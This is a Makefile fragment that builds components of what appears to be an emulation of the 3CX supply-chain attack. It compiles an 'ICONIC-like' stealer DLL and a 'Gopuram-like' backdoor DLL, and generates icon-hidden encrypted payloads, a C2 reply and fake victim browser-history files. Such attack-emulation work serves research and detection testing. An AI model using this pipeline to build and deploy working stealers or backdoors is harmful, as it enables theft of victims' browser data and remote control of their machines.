# iconic.mk - builds $(BUILD)/iconic.dll (stage 3, "ICONIC"-like stealer) and the
# scenario data (icons, encrypted stage 3, victim files) with tools/make_data.py.
# Meant to be -include'd by scenarios/3cx/Makefile and scenarios/3cx-x86/Makefile, which set
#   CC    x86_64-w64-mingw32-gcc | i686-w64-mingw32-gcc
#   ARCH  x64 | x86
#   BUILD output directory
# Optional: CR3CX_SCENARIO (data output dir; default: the including Makefile's dir),
#           PYTHON (default python3).
# Targets: $(BUILD)/iconic.dll, 3cx-data (alias: data) -> $(CR3CX_SCENARIO)/{github,c2,files}/;
# the data files are appended to DATA_FILES.
# Does not change the including Makefile's default goal.
CR3CX_SAVED_GOAL := $(.DEFAULT_GOAL)
ICONIC_DIR := $(patsubst %/,%,$(dir $(lastword $(MAKEFILE_LIST))))

# Freestanding, deterministic, no CRT (same flags in samcli.mk).
ifndef CR3CX_CFLAGS
CR3CX_CFLAGS := -O2 -s -Wall -Wextra -std=gnu11 \
	-ffreestanding -fno-builtin -fno-tree-loop-distribute-patterns -fno-stack-protector \
	-fno-ident -mno-stack-arg-probe -fno-asynchronous-unwind-tables \
	-ffile-prefix-map=$(abspath $(ICONIC_DIR)/../..)=3cx
CR3CX_LDFLAGS := -shared -nostdlib -nostartfiles -Wl,--no-insert-timestamp -Wl,--build-id=none \
	-Wl,--dynamicbase -Wl,--disable-auto-image-base -Wl,--kill-at -Wl,--exclude-all-symbols
ifeq ($(ARCH),x86)
CR3CX_LDFLAGS += -Wl,-e,_DllMain@12
else
CR3CX_LDFLAGS += -Wl,-e,DllMain
endif
endif

ICONIC_LIBS := -lwininet -lkernel32 -lgcc

$(BUILD)/iconic.dll: $(ICONIC_DIR)/iconic.c $(ICONIC_DIR)/iconic.mk
	@mkdir -p $(@D)
	$(CC) $(CR3CX_CFLAGS) -o $@ $< $(CR3CX_LDFLAGS) $(ICONIC_LIBS)

# Stage 4, guard64.dll ("Gopuram"-like backdoor): served as-is by the C2 after the upload.
GUARD_DIR := $(abspath $(ICONIC_DIR)/../guard)
$(BUILD)/guard64.dll: $(GUARD_DIR)/guard64.c $(ICONIC_DIR)/iconic.mk
	@mkdir -p $(@D)
	$(CC) $(CR3CX_CFLAGS) -o $@ $< $(CR3CX_LDFLAGS) -lwininet -lkernel32 -lgcc

CR3CX_SCENARIO ?= $(abspath $(dir $(firstword $(MAKEFILE_LIST))))
CR3CX_MAKE_DATA := $(abspath $(ICONIC_DIR)/../../tools/make_data.py)
PYTHON ?= python3
CR3CX_ICONS := $(foreach i,0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15,github/IconStorages/images/main/icon$(i).ico)
CR3CX_SHARED := $(CR3CX_ICONS) c2/beacon_reply.txt \
	files/config.json files/chrome_History files/edge_History files/brave_History \
	files/firefox_places.sqlite
CR3CX_HOME := $(abspath $(ICONIC_DIR)/../..)

# CR3CX_FULL_DATA=1 (variant builds): every data file is written whatever the architecture.
ifneq ($(ARCH)$(CR3CX_FULL_DATA),x86)
CR3CX_DATA := $(addprefix $(CR3CX_SCENARIO)/,$(CR3CX_SHARED) c2/stage3.bin)
else
# Only stage 3 depends on the architecture: the x86 variant (scenarios/3cx-x86) reads the icons,
# the C2 reply and the victim files from ../3cx. They are generated here too and must equal those.
CR3CX_DATA := $(CR3CX_SCENARIO)/c2/stage3.bin
endif
DATA_FILES += $(CR3CX_DATA) $(CR3CX_SCENARIO)/c2/guard64.dll

# Stage 4 depends on the architecture: each scenario serves its own build.
$(CR3CX_SCENARIO)/c2/guard64.dll: $(BUILD)/guard64.dll
	@mkdir -p $(@D)
	cp $< $@

.PHONY: 3cx-data data
3cx-data data: $(CR3CX_DATA) $(CR3CX_SCENARIO)/c2/guard64.dll

ifneq ($(ARCH)$(CR3CX_FULL_DATA),x86)
# One run writes all of them (grouped target, GNU make >= 4.3); --verify reads them back.
$(CR3CX_DATA) &: $(BUILD)/iconic.dll $(CR3CX_MAKE_DATA)
	$(PYTHON) $(CR3CX_MAKE_DATA) --out $(CR3CX_SCENARIO) --arch $(ARCH) --iconic $(BUILD)/iconic.dll --verify $(MAKE_DATA_ARGS)
else
$(CR3CX_DATA): $(BUILD)/iconic.dll $(CR3CX_MAKE_DATA)
	rm -rf $(BUILD)/data
	$(PYTHON) $(CR3CX_MAKE_DATA) --out $(BUILD)/data --arch $(ARCH) --iconic $(BUILD)/iconic.dll --verify
	for f in $(CR3CX_SHARED); do cmp $(BUILD)/data/$$f $(CR3CX_HOME)/$$f || exit 1; done
	mkdir -p $(@D)
	cp $(BUILD)/data/c2/stage3.bin $@
endif

.DEFAULT_GOAL := $(CR3CX_SAVED_GOAL)
